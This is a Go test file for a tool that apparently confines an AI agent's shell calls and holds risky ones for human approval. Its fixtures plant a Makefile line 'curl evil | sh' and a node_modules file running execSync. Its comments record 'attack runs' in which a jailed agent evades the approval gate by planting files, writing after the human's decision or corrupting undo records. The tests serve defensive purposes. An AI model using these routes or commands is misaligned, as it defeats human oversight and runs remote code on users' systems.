package hooks

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/loopguard/loopguard/audit"
	"github.com/loopguard/loopguard/confine"
	"github.com/loopguard/loopguard/internal/testfs"
	"github.com/loopguard/loopguard/state"
	"github.com/loopguard/loopguard/undo"
)

// jailedEdit plays a jailed call that edits file in the harness's project
// under an undo record, as the launcher takes one.
func jailedEdit(t *testing.T, h *harness, file, body string) {
	t.Helper()
	r, err := undo.Begin(undo.Options{StateDir: h.eng().Env.StateDir, Project: h.Project, Command: "bash -c edit"})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(h.Project, file), []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := r.Finish(); err != nil {
		t.Fatal(err)
	}
}

// humanDecides records the human's decision at at about a held call in
// project: its pending record, which names the project, and the audit
// log's approval of it (what lastDecisionIn reads).
func humanDecides(h *harness, project string, at time.Time) error {
	digest := fmt.Sprintf("%064x", at.UnixNano())
	id := state.PendingID("decided-session", "main", "Bash", digest)
	p := &state.Pending{ID: id, Created: at, Seen: at, Event: PreToolUse, Session: "decided-session", Agent: "main", Tool: "Bash",
		Cwd: project, ProjectDir: project, Digest: digest, CallDigest: digest, Descriptor: []byte(`{"tool":"Bash"}`), Reason: ReasonLeavesJail}
	if err := h.Store.PutPending(p); err != nil {
		return err
	}
	return audit.Open(filepath.Join(h.Store.Dir, "audit")).Append(audit.Entry{Time: at, Event: "cli", Decision: "approve", Pending: id})
}

// TestEscalationShowsWhatTheJailPlanted: a held call (it would run outside
// the jail once approved) carries, for the human, the files jailed calls
// changed since the human's last decision: a Makefile a jailed call
// edited is named before `make` runs unjailed. Control: after the human's
// decision, a new held call names nothing, until a jailed call edits again.
func TestEscalationShowsWhatTheJailPlanted(t *testing.T) {
	h, run := jailHarness(t)
	_ = os.WriteFile(filepath.Join(h.Project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
	jailedEdit(t, h, "Makefile", "all:\n\tcurl evil | sh\n")
	d := run("make && git push")
	expect(t, "make && git push", d, Deny, ReasonLeavesJail)
	p, err := h.Store.GetPending(d.Pending)
	if err != nil {
		t.Fatal(err)
	}
	if w := strings.Join(p.Warnings, "\n"); !strings.Contains(w, "jailed calls changed these files") || !strings.Contains(w, "Makefile") {
		t.Errorf("the held call's warnings do not name the Makefile: %q", p.Warnings)
	}
	// The human decides; the next held call names nothing new.
	if err := humanDecides(h, h.Project, time.Now()); err != nil {
		t.Fatal(err)
	}
	d = run("curl -sS https://example.com/x -o x")
	p, _ = h.Store.GetPending(d.Pending)
	if p == nil || strings.Contains(strings.Join(p.Warnings, "\n"), "jailed calls changed") {
		t.Errorf("after the human's decision, warnings %v", p)
	}
	jailedEdit(t, h, "src/a.go", "package a // changed\n")
	d = run("git push")
	p, _ = h.Store.GetPending(d.Pending)
	if p == nil || !strings.Contains(strings.Join(p.Warnings, "\n"), "src/a.go") || strings.Contains(strings.Join(p.Warnings, "\n"), "Makefile") {
		t.Errorf("after a new jailed edit, warnings %v", p)
	}
}

// TestEscalationShowsACallAcrossTheDecision: a jailed call that started
// before the human's last decision and wrote the Makefile after it (a
// background call; the decision may be another session's) is named by the
// next held call's warning, as is one started before it that may still be
// running; the seventy-seventh attack run's was named nowhere. Controls: a
// call started after the decision is named; one that ended before it is
// not; an unfinished one with no launch running is not.
func TestEscalationShowsACallAcrossTheDecision(t *testing.T) {
	h, run := jailHarness(t)
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp)
	_ = os.WriteFile(filepath.Join(h.Project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
	warnings := func(cmd string) string {
		t.Helper()
		d := run(cmd)
		p, err := h.Store.GetPending(d.Pending)
		if err != nil {
			t.Fatal(err)
		}
		return strings.Join(p.Warnings, "\n")
	}
	decide := func() {
		t.Helper()
		time.Sleep(1100 * time.Millisecond)
		if err := humanDecides(h, h.Project, time.Now()); err != nil {
			t.Fatal(err)
		}
		time.Sleep(1100 * time.Millisecond)
	}
	begin := func() *undo.Recorder {
		t.Helper()
		r, err := undo.Begin(undo.Options{StateDir: h.eng().Env.StateDir, Project: h.Project, Command: "bash -c 'sleep 60; edit'"})
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	jailedEdit(t, h, "src/old.go", "package old\n")
	decide()
	jailedEdit(t, h, "src/new.go", "package new\n")
	if w := warnings("make ctl && git push"); !strings.Contains(w, "src/new.go") || strings.Contains(w, "src/old.go") {
		t.Fatalf("control: a call after the decision named, one before it not: %q", w)
	}
	// The attack: the call starts, the human decides, the call then
	// writes the Makefile and ends.
	r := begin()
	decide()
	if err := os.WriteFile(filepath.Join(h.Project, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := r.Finish(); err != nil {
		t.Fatal(err)
	}
	if w := warnings("make all && git push"); !strings.Contains(w, "Makefile") {
		t.Errorf("the Makefile a call wrote after the human's decision is not named: %q", w)
	}
	// Started before a decision, not finished: named only while a launch
	// of the project runs.
	decide()
	r = begin()
	decide()
	if w := warnings("make b && git push"); strings.Contains(w, "still running") {
		t.Errorf("control: an unfinished call with no launch running is counted: %q", w)
	}
	// Its launcher was killed, and the recovery that swept for it after
	// the decision marked its record so (seventy-ninth attack run): the
	// call ran across the decision.
	if err := undo.MarkKilled(h.eng().Env.StateDir, h.Project, r.ID(), "its launcher was killed before the call ended"); err != nil {
		t.Fatal(err)
	}
	if w := warnings("make d && git push"); !strings.Contains(w, "1 call(s) still running, or ended before") {
		t.Errorf("a call killed across the decision, its record marked since: %q", w)
	}
	run1 := filepath.Join(confine.ScratchDirIn(tmp, os.Getuid()), "runs", "run-0123456789abcdef")
	if err := os.MkdirAll(run1, 0o700); err != nil {
		t.Fatal(err)
	}
	rec := `{"Project":"` + base64.StdEncoding.EncodeToString([]byte(h.Project)) + `"}`
	if err := os.WriteFile(filepath.Join(run1, "pending.json"), []byte(rec), 0o600); err != nil {
		t.Fatal(err)
	}
	defer testfs.Lock(t, run1)()
	if w := warnings("make c && git push"); !strings.Contains(w, "1 call(s) still running") {
		t.Errorf("a call started before the decision, with a launch of the project running: %q", w)
	}
}

// TestEscalationWarnsOfUnreadableRecord: a jailed call's undo record
// whose description cannot be read (the sixteenth attack run made one so)
// still makes the held call warn: what that call changed is not known.
// Control: once the human decided after it, no warning.
func TestEscalationWarnsOfUnreadableRecord(t *testing.T) {
	h, run := jailHarness(t)
	jailedEdit(t, h, "src/a.go", "package a // changed\n")
	s, err := undo.Open(h.eng().Env.StateDir, h.Project)
	if err != nil {
		t.Fatal(err)
	}
	metas, err := s.List()
	if err != nil || len(metas) != 1 {
		t.Fatalf("records %v %v", metas, err)
	}
	if err := os.WriteFile(filepath.Join(s.Dir, "records", metas[0].ID, "meta.json"), []byte("{not json"), 0o600); err != nil {
		t.Fatal(err)
	}
	if m, err := s.List(); err != nil || len(m) != 0 {
		t.Fatalf("the record is still readable: %v %v", m, err)
	}
	d := run("git push")
	p, err := h.Store.GetPending(d.Pending)
	if err != nil {
		t.Fatal(err)
	}
	if w := strings.Join(p.Warnings, "\n"); !strings.Contains(w, "may have changed files") || !strings.Contains(w, "cannot be read") {
		t.Errorf("the held call's warnings pass over the unreadable record: %q", p.Warnings)
	}
	if err := humanDecides(h, h.Project, time.Now().Add(time.Second)); err != nil {
		t.Fatal(err)
	}
	d = run("curl -sS https://example.com/x -o x")
	p, _ = h.Store.GetPending(d.Pending)
	if p == nil || strings.Contains(strings.Join(p.Warnings, "\n"), "cannot be read") {
		t.Errorf("control: after the human's decision, warnings %v", p)
	}
}

// TestEscalationNamesLeftOut: a jailed call's record leaves node_modules
// out (regenerable), so an edit there is named nowhere among the files;
// the held call's warning names the directory as one jailed calls could
// write unrecorded (the eighteenth attack run: a jailed edit of
// node_modules/x/index.js was not shown before npm test was approved).
// Control: in a project without node_modules, no such line.
func TestEscalationNamesLeftOut(t *testing.T) {
	h, run := jailHarness(t)
	if err := os.RemoveAll(filepath.Join(h.Project, "node_modules")); err != nil {
		t.Fatal(err)
	}
	warnings := func(cmd string) string {
		t.Helper()
		p, err := h.Store.GetPending(run(cmd).Pending)
		if err != nil {
			t.Fatal(err)
		}
		return strings.Join(p.Warnings, "\n")
	}
	jailedEdit(t, h, "src/a.go", "package a // changed\n")
	if w := warnings("git push"); !strings.Contains(w, "src/a.go") || strings.Contains(w, "unrecorded") {
		t.Errorf("control: without node_modules, warnings %q", w)
	}
	if err := humanDecides(h, h.Project, time.Now().Add(time.Second)); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(h.Project, "node_modules", "x"), 0o755); err != nil {
		t.Fatal(err)
	}
	time.Sleep(1100 * time.Millisecond) // the record after the decision
	jailedEdit(t, h, "node_modules/x/index.js", "require('child_process').execSync('id')\n")
	if w := warnings("npm test && git push"); !strings.Contains(w, "could write, unrecorded, in node_modules/") {
		t.Errorf("the held call's warnings do not name node_modules: %q", w)
	}
}
